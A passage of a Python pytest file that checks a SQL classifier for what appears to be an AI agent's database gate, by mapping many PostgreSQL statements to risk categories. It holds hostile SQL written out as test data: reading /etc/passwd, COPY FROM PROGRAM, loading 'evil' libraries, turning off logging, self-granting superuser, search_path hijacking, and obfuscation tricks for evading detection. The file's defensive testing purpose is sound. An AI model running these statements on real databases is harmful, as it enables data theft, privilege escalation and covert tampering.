    row("SELECT percentile_disc('{0.1,0.5}') WITHIN GROUP (ORDER BY email) FROM customers", R, D),
    row("SELECT percentile_cont('0.5'::float8) WITHIN GROUP (ORDER BY id) FROM customers", R),
    row("SELECT mode() WITHIN GROUP (ORDER BY email) FROM customers", R),
    row("SELECT email, count(*) OVER () FROM customers", R, D, id="window-is-not-aggregate"),
    row("SELECT (SELECT array_agg(email) FROM customers)", R, D, id="sublink-in-target"),
    row(
        "SELECT upper((SELECT string_agg(email, ',') FROM customers))",
        R,
        D,
        id="sublink-in-function-arg",
    ),
    row("SELECT * FROM (SELECT * FROM customers) s", R, D),
    row("SELECT * FROM (SELECT * FROM customers) s LIMIT 5", R, id="outer-limit-bounds"),
    row("SELECT * FROM (SELECT * FROM customers) s WHERE s.id = 1", R),
    row("WITH x AS (SELECT * FROM customers) SELECT * FROM x", R, D),
    row("WITH x AS (SELECT * FROM customers WHERE id = 1) SELECT * FROM x", R),
    row("SELECT id FROM orders WHERE id = 1 UNION SELECT id FROM customers", R, D),
    row("(SELECT email FROM customers) UNION ALL (SELECT 'x') LIMIT 10", R),
    row("SELECT * FROM customers WHERE EXISTS (SELECT 1 FROM orders WHERE orders.id = 1)", R, D),
    row("SELECT * INTO backup FROM customers", R, D, DDL, W),
    row("CREATE TABLE backup AS SELECT * FROM customers", R, D, DDL, W),
    row("CREATE TABLE backup AS TABLE customers", R, D, DDL, W),
    row("CREATE TABLE backup AS SELECT * FROM customers WITH NO DATA", DDL, id="ctas-no-data"),
    row("CREATE TABLE leak AS SELECT pg_read_file('x') WITH NO DATA", DDL, A),
    row("CREATE MATERIALIZED VIEW mv AS SELECT * FROM customers", R, D, DDL, W),
    row("INSERT INTO backup SELECT * FROM customers", R, D, W),
    row("SELECT query_to_xml('select * from customers', true, false, '')", R, D),
    row("SELECT table_to_xml('customers', true, false, '')", R, D),
    row("SELECT database_to_xml(true, false, '')", R, D),
    row("SELECT schema_to_xml('public', true, false, '')", R, D),
    row("SELECT cursor_to_xml('c', 100, true, false, '')", R, D),
    row("DECLARE c CURSOR WITH HOLD FOR SELECT * FROM customers", R, D),
    row("DECLARE c CURSOR FOR SELECT * FROM customers", R, D),
    row("SELECT * FROM pg_stats WHERE tablename = 'customers'", R, D, id="stats-leak-values"),
    row("SELECT * FROM pg_largeobject", R, D),
    row("SELECT pg_export_snapshot()", R, D),
    row(
        "SELECT * FROM json_to_recordset((SELECT json_agg(c) FROM customers c)) AS x(email text)",
        R,
        D,
        id="function-in-from-with-sublink",
    ),
    row("SELECT * FROM customers TABLESAMPLE BERNOULLI (100)", R, D),
    row(
        "INSERT INTO notes (id, body) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE "
        "SET body = (SELECT string_agg(email, ',') FROM customers)",
        W,
        R,
        D,
        id="upsert-copies-a-column",
    ),
    row(
        "UPDATE notes SET body = 'x' WHERE id = 1 RETURNING (SELECT array_agg(ssn) FROM customers)",
        W,
        R,
        D,
        id="returning-sublink",
    ),
    row("VALUES ((SELECT array_agg(email) FROM customers))", R, D),
    row(
        "SELECT jt.* FROM customers c, JSON_TABLE(c.doc, '$' COLUMNS (a text PATH '$.a')) jt",
        R,
        D,
        id="json_table-over-whole-table",
    ),
    row(
        "SELECT jt.* FROM customers c, JSON_TABLE(c.doc, '$' COLUMNS (a text PATH '$.a')) jt "
        "WHERE c.id = 1",
        R,
    ),
    row(
        "SELECT email, count(*) FROM customers GROUP BY ROLLUP (email)", R, id="documented-group-by"
    ),
    row("SELECT * FROM orders WHERE id > 0", R, id="documented-limit-id-gt-0"),
    # what counts as a restricting WHERE
    row("SELECT * FROM customers WHERE id IN (SELECT id FROM customers)", R, D),
    row("SELECT * FROM customers WHERE id <> 5", R, D),
    row("SELECT * FROM customers WHERE id != 5", R, D),
    row("SELECT * FROM customers WHERE id NOT IN (1, 2)", R, D),
    row("SELECT * FROM customers WHERE email NOT LIKE '%x%'", R, D),
    row("SELECT * FROM customers WHERE email IS NOT NULL", R, D),
    row("SELECT * FROM customers WHERE NOT (id = 1)", R, D),
    row("SELECT * FROM customers WHERE id = id", R, D, id="column-equals-itself"),
    row("SELECT * FROM customers c, orders o WHERE o.customer_id = c.id", R, D, id="old-join"),
    row("SELECT * FROM customers WHERE id = 1 OR email IS NOT NULL", R, D),
    row("SELECT * FROM customers WHERE email IS DISTINCT FROM 'x'", R, D),
    row("SELECT * FROM customers WHERE id NOT BETWEEN 1 AND 2", R, D),
    row(
        "SELECT * FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = c.id)",
        R,
        D,
        id="exists-semijoin-conservative",
    ),
    row("SELECT * FROM customers WHERE (id = 1) IS NOT TRUE", R, D, id="is-not-true"),
    row("SELECT * FROM customers WHERE CASE WHEN id = 1 THEN true ELSE true END", R, D),
    row("SELECT * FROM customers WHERE coalesce(id = 1, true)", R, D, id="coalesce-true"),
    row("SELECT * FROM customers WHERE (id = 1) IS TRUE", R),
    row(
        "SELECT * FROM customers WHERE id = ANY(ARRAY(SELECT id FROM customers))",
        R,
        D,
        id="any-array-of-everything",
    ),
    row("SELECT * FROM customers WHERE id = ANY((SELECT array_agg(id) FROM customers))", R, D),
    row("SELECT * FROM customers WHERE id = (SELECT max(id) FROM customers)", R),
    row("SELECT * FROM customers WHERE id = ANY(ARRAY(SELECT id FROM customers LIMIT 3))", R),
    row("SELECT * FROM customers WHERE active", R, id="bare-boolean-column"),
    row("SELECT * FROM customers WHERE starts_with(email, 'a')", R),
    row("DELETE FROM orders WHERE (id = 1) IS NOT TRUE", X),
    row("SELECT * FROM customers WHERE email IS NULL", R),
    row("SELECT * FROM customers WHERE email LIKE 'a%'", R),
    row("SELECT * FROM customers WHERE id BETWEEN 1 AND 10", R),
    row("SELECT * FROM customers WHERE id = ANY($1)", R),
    row("SELECT * FROM customers WHERE lower(email) = lower($1)", R),
    row("SELECT * FROM customers WHERE id = 1 OR id = 2", R),
    row("SELECT * FROM customers c, orders o WHERE o.customer_id = c.id AND o.id = 3", R),
    row(
        "SELECT * FROM customers WHERE id IN (SELECT customer_id FROM orders WHERE id = 9)",
        R,
        id="in-bounded-subselect",
    ),
    # a WHERE must narrow *every* table that could be dumped
    row("SELECT * FROM orders o, customers c WHERE o.id = 1", R, D, id="cross-join-leaks"),
    row("SELECT c.* FROM orders o JOIN customers c ON true WHERE o.id = 1", R, D),
    row("SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.id = 1", R),
    row("SELECT * FROM orders o JOIN customers c USING (id) WHERE o.id = 1", R),
    row("SELECT * FROM orders o NATURAL JOIN customers c WHERE o.id = 1", R),
    row(
        "SELECT * FROM customers c LEFT JOIN orders o ON o.customer_id = c.id AND o.id = 5",
        R,
        D,
        id="on-clause-value-does-not-narrow",
    ),
    row("SELECT * FROM orders, customers WHERE total = 5", R, D, id="unqualified-multi-source"),
    row("SELECT * FROM orders o, payments p WHERE p.order_id = o.id AND o.id = 1", R),
    row(
        "SELECT * FROM orders o, payments p, customers c "
        "WHERE p.order_id = o.id AND c.id = o.customer_id AND p.id = 1",
        R,
        id="propagates-through-two-joins",
    ),
    row("SELECT x.* FROM orders o, LATERAL (SELECT * FROM customers) x WHERE o.id = 1", R, D),
    row(
        "SELECT x.* FROM orders o, LATERAL (SELECT * FROM customers c WHERE c.id = o.customer_id) x "
        "WHERE o.id = 1",
        R,
        id="correlated-lateral",
    ),
    row(
        "SELECT (SELECT array_agg(email) FROM customers c WHERE c.id = o.customer_id) "
        "FROM orders o WHERE o.id = 1",
        R,
        D,  # proven narrow only with a key catalog (test_bounds_table)
        id="correlated-scalar-sublink",
    ),
    row(
        "SELECT (SELECT array_agg(email) FROM customers c WHERE c.id = o.customer_id) FROM orders o",
        R,
        D,
    ),
]

# --------------------------------------------------------------------------------------
# admin
# --------------------------------------------------------------------------------------
ADMIN = [
    row("SELECT pg_read_file('/etc/passwd')", R, A),
    row("SELECT pg_read_binary_file('global/pg_control')", R, A),
    row("SELECT * FROM pg_ls_dir('.')", R, A),
    row("SELECT pg_stat_file('postgresql.conf')", R, A),
    row("SELECT lo_import('/etc/passwd')", R, A),
    row("COPY t FROM PROGRAM 'id'", W, A),
    row("COPY t FROM '/etc/passwd'", W, A),
    row("ALTER SYSTEM SET shared_preload_libraries = 'evil'", A),
    row("ALTER SYSTEM SET work_mem = '1GB'", A, C),
    row("LOAD 'evil.so'", A),
    row("CREATE EXTENSION dblink", A, DDL),
    row("ALTER EXTENSION pg_trgm UPDATE", A, DDL),
    row("DROP EXTENSION pg_trgm", A, DDL, X),
    row("SELECT pg_terminate_backend(1234)", R, A),
    row("SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE usename = 'x'", R, A),
    row("SELECT pg_reload_conf()", R, A),
    row("SELECT pg_rotate_logfile()", R, A),
    row("SET log_statement = 'none'", A),
    row("SET log_min_duration_statement = -1", A),
    row("SELECT set_config('log_statement', 'none', false)", R, A),
    row("SELECT pg_create_logical_replication_slot('s', 'pgoutput')", R, A),
    row("SELECT pg_drop_replication_slot('s')", R, A),
    row("CHECKPOINT", A),
    row("VACUUM FULL orders", A),
    row("VACUUM orders", A),
    row("CLUSTER orders USING orders_pkey", A),
    row("REINDEX TABLE orders", A),
    row("CREATE TABLESPACE t LOCATION '/tmp/x'", A, DDL),
    row("SELECT pg_stat_reset()", R, A),
    row("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()", A, DDL),
    row("SELECT * FROM pg_hba_file_rules", R, A),
    row("SELECT pg_switch_wal()", R, A),
    row(
        "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'evil', 'f'",
        DDL,
        O,
        A,
        id="c-language-function",
    ),
    row("SET session_preload_libraries = 'x'", A),
    row("UPDATE pg_catalog.pg_authid SET rolsuper = true WHERE rolname = 'agent'", W, A),
]

# --------------------------------------------------------------------------------------
# escape
# --------------------------------------------------------------------------------------
ESCAPE = [
    row("SET standard_conforming_strings = off", ESC),
    row("SET standard_conforming_strings TO 'OFF'", ESC),
    row("SET standard_conforming_strings = false", ESC),
    row("SET standard_conforming_strings = 0", ESC),
    row("SELECT set_config('standard_conforming_strings', 'off', false)", R, ESC),
    row("ALTER ROLE agent SET standard_conforming_strings = off", P, ESC),
    row("ALTER DATABASE demo SET standard_conforming_strings = off", DDL, ESC),
    row("SET backslash_quote = on", ESC),
    row("SET client_encoding = 'SJIS'", ESC, id="client-encoding-sjis"),
    row("SET NAMES 'GBK'", ESC),
    row("SET default_transaction_read_only = off", ESC),
    row("SET transaction_read_only = off", ESC),
    row("SET TRANSACTION READ WRITE", C, ESC),
    row("BEGIN READ WRITE", C, ESC),
    row("START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", C, ESC),
    row("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", C, ESC),
    row("SELECT set_config('default_transaction_read_only', 'off', false)", R, ESC),
    row("SET search_path = evil, pg_catalog", ESC),
    row('SET search_path = "$user", pg_catalog, public', ESC),
    row("SELECT set_config('search_path', 'evil, pg_catalog', false)", R, ESC),
    row("SELECT set_config('search_path', 'pg_catalog, evil', false)", R, C),
    # set_config over pg_settings rows whose names the WHERE fixes (pg_dump sends this)
    row(
        "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings "
        "WHERE name = 'restrict_nonsystem_relation_kind'",
        R,
        C,
        id="pg-dump-set-config-from-pg-settings",
    ),
    row(
        "SELECT set_config(s.name, '1', false) FROM pg_catalog.pg_settings s "
        "WHERE s.name IN ('work_mem', 'statement_timeout') AND s.context = 'user'",
        R,
        C,
    ),
    row("SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'role'", R, P),
    row(
        "SELECT set_config(name, 'off', false) FROM pg_settings "
        "WHERE name = 'standard_conforming_strings'",
        R,
        ESC,
    ),
    row(
        "SELECT set_config(name, setting, false) FROM pg_settings WHERE name = 'search_path'",
        R,
        O,
        id="pg-settings-value-computed",
    ),
    row("SELECT set_config(name, 'x', false) FROM pg_settings", R, O, id="pg-settings-all-rows"),
    row("SELECT set_config(name, 'x', false) FROM pg_settings WHERE name LIKE 'r%'", R, O),
    row(
        "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'work_mem' OR true", R, O
    ),
    row(
        "SELECT set_config(name, 'x', false) FROM public.pg_settings WHERE name = 'work_mem'",
        R,
        O,
        id="a-user-table-named-pg-settings",
    ),
    row(
        "SELECT set_config(name, 'x', false) FROM pg_settings, t WHERE name = 'work_mem'",
        R,
        O,
        D,
        id="pg-settings-joined",
    ),
    row("ALTER ROLE agent SET search_path = evil, pg_catalog", P, ESC),
    row("SET session_replication_role = replica", ESC),
    # `col = NULL` becomes `col IS NULL`: a nullable unique key then pins no row
    row("SET transform_null_equals = on", ESC),
    row("SET transform_null_equals TO 'yes'", ESC),
    row("SELECT set_config('transform_null_equals', 'on', false)", R, ESC),
    row("SET transform_null_equals = off", C),
    row("RESET transform_null_equals", C),
    # row_security = off makes RLS raise instead of filter: it can only show fewer rows
    row("SET row_security = off", C),
    row("SELECT set_config('row_security', 'off', true)", R, C),
]

# --------------------------------------------------------------------------------------
# opaque
# --------------------------------------------------------------------------------------
OPAQUE = [
    row("DO $$ BEGIN PERFORM 1; END $$", O),
    row("DO LANGUAGE plpgsql $$ BEGIN EXECUTE 'drop table x'; END $$", O),
    row("CALL my_proc(1)", O),
    row("SELECT my_function(1)", R, O),
    row("SELECT public.lower('x')", R, O, id="public-lower-is-not-builtin"),
    # a cast runs its target type's code: a domain's CHECK (any function), a user cast
    row("SELECT '1'::my_domain", R, O, id="cast-to-user-type"),
    row("SELECT '1'::public.int4", R, O, id="public-int4-is-not-builtin"),
    row("SELECT CAST('1' AS public.text)", R, O, id="cast-as-public-text"),
    row("SELECT public.int4 '1'", R, O, id="typed-literal-of-user-type"),
    row("SELECT '{1}'::my_domain[]", R, O, id="cast-to-user-array-type"),
    row("DELETE FROM t WHERE id = 7::my_domain", W, O, id="user-cast-in-delete"),
    row("SELECT '1'::pg_catalog.int4, '1'::integer, '1'::text", R, id="builtin-casts"),
    row("SELECT 'x'::information_schema.sql_identifier", R, id="information-schema-domain"),
    row(
        "SELECT * FROM json_to_record('{\"a\":1}') AS x(a my_domain)",
        R,
        O,
        id="record-column-of-user-type",
    ),
    row("SELECT JSON_VALUE('{}', '$.a' RETURNING my_domain)", R, O, id="json-returning-user-type"),
    row(
        "SELECT * FROM xmltable('/a' PASSING '<a/>' COLUMNS x my_domain PATH '.')",
        R,
        O,
        id="xmltable-column-of-user-type",
    ),
    row("PREPARE q(my_domain) AS SELECT $1", C, R, O, id="prepare-parameter-of-user-type"),
    row("PREPARE q(int) AS SELECT $1", C, R, id="prepare-parameter-of-builtin-type"),
    row("SELECT \"Lower\"('x')", R, O, id="quoted-mixed-case-is-another-function"),
    row("SELECT * FROM my_srf()", R, O),
    row("EXECUTE my_plan(1)", O, id="execute-unknown-prepared"),
    row(
        "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$",
        DDL,
        O,
    ),
    row("CREATE PROCEDURE p() LANGUAGE sql AS 'select 1'", DDL, O),
    row("SELECT query_to_xml(q, true, false, '') FROM queries WHERE id = 1", R, D, O),
    row("SELECT set_config(name, 'off', false) FROM t WHERE id = 1", R, O),
    row("SELECT ts_stat('select v from docs')", R, D, id="ts_stat-runs-sql"),
    row("SELECT 1 OPERATOR(public.+) 2", R, O, id="user-operator"),
    row("SELECT * FROM t WHERE a === b", R, O, D, id="unknown-operator-symbol"),
    row(
        "SELECT * FROM t WHERE a = 1 AND b <<< ANY (SELECT 1)", R, O, id="unknown-sublink-operator"
    ),
    row("SELECT 1 OPERATOR(pg_catalog.+) 2", R, id="qualified-builtin-operator"),
    row("SELECT * FROM t WHERE j @> '{}' AND j ?| array['a'] AND v <-> 'x' < 1 AND id = 1", R),
    row("selec * from customers", O, id="parse-error"),
    row("SELECT * FROM", O, id="truncated"),
    row("SELECT 'unterminated", O),
    row("EXPLAIN SELECT my_function()", R, O, id="explain-may-fold-unknown-immutable"),
]

# --------------------------------------------------------------------------------------
# evasions the parser must see through
# --------------------------------------------------------------------------------------
EVASIONS = [
    row("SELECT /* hi */ pg_read_file('/etc/passwd')", R, A),
    row("SELECT /* outer /* nested */ still comment */ pg_read_file('x')", R, A),
    row("SELECT 1; -- harmless\nCOPY customers TO STDOUT", R, E, D),
    row("select 1;copy customers to stdout;", R, E, D),
    row("SELECT PG_CATALOG.Pg_Read_File('x')", R, A, id="case-varied-qualified"),
    row("SELECT pg_catalog.pg_read_file('x')", R, A),
    row('SELECT "pg_catalog"."pg_read_file"(\'x\')', R, A, id="quoted-qualified"),
    row("SELECT U&\"pg_read_\\0066ile\"('x')", R, A, id="unicode-escaped-function"),
    row('SELECT * FROM U&"d\\0061ta"', R, D, id="unicode-escaped-table"),
    row(
        "SELECT U&\"pg_read_!0066ile\" UESCAPE '!' ('x')",
        R,
        A,
        id="unicode-escape-with-uescape",
    ),
    row(
        "SELECT 1 /* outer /* inner */ still outer */, pg_read_file('x')",
        R,
        A,
        id="code-after-nested-comment",
    ),
    row("SELECT 1 -- pg_read_file('x')", R, id="line-comment-hides-nothing"),
    row("SELECT $tag$ pg_read_file('x') $tag$", R, id="dollar-quoted-is-a-string"),
    row("SELECT * FROM pg_read_file('x') AS f", R, A, id="function-in-from"),
    row("SELECT * FROM ROWS FROM (pg_ls_dir('.'), generate_series(1,2))", R, A),
    row("SELECT length((SELECT pg_read_file('x')))", R, A, id="sublink-in-arg"),
    row("SELECT lower(pg_read_file('x'))", R, A, id="nested-call"),
    row("SELECT * FROM orders WHERE id = 1 AND pg_read_file('x') IS NOT NULL", R, A),
    row("SELECT CASE WHEN true THEN pg_read_file('x') END", R, A),
    row("SELECT ARRAY[pg_read_file('x')]", R, A),
    row("SELECT pg_read_file('x')::text", R, A),
    row("SELECT * FROM orders ORDER BY pg_read_file('x') LIMIT 1", R, A),
    row("SELECT count(*) FILTER (WHERE pg_read_file('x') = '') FROM orders", R, A),
    row("VALUES (pg_read_file('x'))", R, A),
    row("INSERT INTO t VALUES (pg_read_file('x'))", W, A),
    row("UPDATE t SET v = pg_read_file('x') WHERE id = 1", W, A),
    row("WITH x AS (SELECT pg_read_file('x')) SELECT * FROM x", R, A),
    row(
        "WITH RECURSIVE r AS (SELECT 1 n UNION ALL SELECT n + 1 FROM r WHERE n < 3) "
        "SELECT pg_read_file('x') FROM r",
        R,
        A,
    ),
    row("SELECT 1 UNION SELECT length(pg_read_file('x'))", R, A),
    row("SELECT * FROM orders o JOIN LATERAL pg_ls_dir('.') d ON true WHERE o.id = 1", R, A),
    row("EXPLAIN ANALYZE SELECT pg_read_file('x')", R, A),
    row("PREPARE p AS SELECT pg_read_file('x')", C, R, A),
    row("DECLARE c CURSOR FOR SELECT pg_read_file('x')", R, A),
    row("SELECT query_to_xml('select pg_read_file(''x'')', true, false, '')", R, D, A),
    row(
        "SELECT query_to_xml('copy customers to program ''x''', true, false, '')",
        R,
        D,
        E,
        A,
        id="query-to-xml-nested-copy",
    ),
    row("SELECT pg_notify('c', pg_read_file('x'))", R, E, A),
    row(
        "MERGE INTO t USING (SELECT pg_read_file('x') v) s ON t.v = s.v "
        "WHEN NOT MATCHED THEN INSERT VALUES (s.v)",
        R,
        W,
        A,
    ),
    row("SELECT * FROM orders WHERE id = 1 FOR UPDATE", R, L, id="row-locking"),
    row("COPY (SELECT pg_read_file('x')) TO STDOUT", R, A),
    row("SELECT pg_catalog.set_config('role', 'postgres', false)", R, P),
    row("SELECT * FROM orders WHERE id = 1 AND set_config('role','postgres',false) = ''", R, P),
    row("select * from orders where id = 1; set role postgres", R, P),
    row("SELECT lo_export(lo_from_bytea(0, 'x'), '/tmp/x')", R, W, E, A),
    row("SELECT (pg_ls_dir('.')).x", R, A, subset=True, id="indirection"),
    row(
        "SELECT set_config(new_value => 'x', setting_name => 'role', is_local => false)",
        R,
        P,
        id="named-arguments",
    ),
    row(
        "SELECT set_config(setting_name => 'standard_conforming_strings', new_value => 'off', "
        "is_local => false)",
        R,
        ESC,
    ),
    row("SELECT set_config(U&'r\\006Fle', 'postgres', false)", R, P, id="unicode-escaped-literal"),
    row("SELECT set_config(E'r\\x6fle', 'postgres', false)", R, P, id="e-string-escape"),
    row("SELECT set_config($$role$$, 'postgres', false)", R, P, id="dollar-quoted-literal"),
    row("SELECT set_config('role' || '', 'postgres', false)", R, O, id="computed-setting-name"),
    row(
        "SELECT query_to_xml(query => 'select * from customers', nulls => true, "
        "tableforest => false, targetns => '')",
        R,
        D,
    ),
    row("SELECT json_build_object('f', pg_read_file('x'))", R, A),
    row("SELECT xmlelement(name x, pg_read_file('x'))", R, A),
    row("SELECT * FROM xmltable('/r' PASSING CAST(pg_read_file('x') AS xml) COLUMNS a text)", R, A),
    row(
        "SELECT * FROM customers WHERE id = 1 UNION SELECT * FROM customers",
        R,
        D,
        id="union-second-arm-unbounded",
    ),
    row("SELECT * FROM orders AS pg_authid WHERE id = 1", R, id="alias-named-like-catalog"),
]

ALL = PGBENCH + DRIVERS + BI + WRITES + DESTRUCTIVE + DDL_ROWS + PRIVILEGE + EXPORT + DUMP
ALL += ADMIN + ESCAPE + OPAQUE + EVASIONS


def _names(cats: Iterable[Category]) -> list[str]:
    return sorted(c.value for c in cats)


@pytest.mark.parametrize(("sql", "expected", "subset"), ALL)
def test_table(sql: str, expected: frozenset[Category], subset: bool) -> None:
    clear_cache()  # the cold path is what we pin; cache behaviour has its own tests
    got = classify(sql).categories
    if subset:
        assert expected <= got, f"{sql!r}: expected at least {_names(expected)}, got {_names(got)}"
    else:
        assert got == expected, f"{sql!r}: expected {_names(expected)}, got {_names(got)}"


def test_table_is_big_enough() -> None:
    assert len(ALL) >= 250


@pytest.mark.parametrize(("sql", "expected", "subset"), ALL)
def test_cached_answer_equals_cold_answer(
    sql: str, expected: frozenset[Category], subset: bool
) -> None:
    clear_cache()
    cold = classify(sql)
    assert classify(sql) == cold


# --------------------------------------------------------------------------------------
# Real introspection SQL taken from the installed drivers/ORMs: must stay plain reads
# --------------------------------------------------------------------------------------


def _driver_queries() -> list[Any]:
    out: list[Any] = []
    try:
        from asyncpg import introspection as ai

        for name in ("INTRO_LOOKUP_TYPES", "INTRO_LOOKUP_TYPES_13", "TYPE_BY_NAME"):
            if hasattr(ai, name):
                out.append(pytest.param(getattr(ai, name), id=f"asyncpg-{name}"))
    except ImportError:  # pragma: no cover - asyncpg is a runtime dependency
        pass
    try:
        from sqlalchemy.dialects.postgresql import asyncpg as pga
        from sqlalchemy.dialects.postgresql.base import ObjectKind, ObjectScope

        d = pga.dialect()
        d.server_version_info = (17, 0)
        args = (None, True, ObjectScope.DEFAULT, ObjectKind.TABLE)
        built = {
            "columns": d._columns_query(*args),
            "table_oids": d._table_oids_query(*args),
            "constraint": d._constraint_query,
            "index": d._index_query,
            "comment": d._comment_query(*args),
            "foreign_keys": d._foreing_key_query(*args),
            "enums": d._enum_query(None),
            "domains": d._domain_query(None),
            "table_options": d._table_options_query(*args),
        }
        for name, q in built.items():
            text = str(q.compile(dialect=d))
            # expanding IN parameters render as a placeholder token; use a plain $n
            text = text.replace("__[POSTCOMPILE_oids]", "$90")
            out.append(pytest.param(text, id=f"sqlalchemy-{name}"))
    except Exception:  # pragma: no cover - private API moved: nothing to test here
        pass
    return out


@pytest.mark.parametrize("sql", _driver_queries())
def test_real_driver_introspection_is_plain_read(sql: str) -> None:
    c = classify(sql)
    assert c.parse_error is None
    assert c.categories == {R}, [r.message for r in c.reasons]


def test_driver_queries_were_found() -> None:
    assert len(_driver_queries()) >= 8
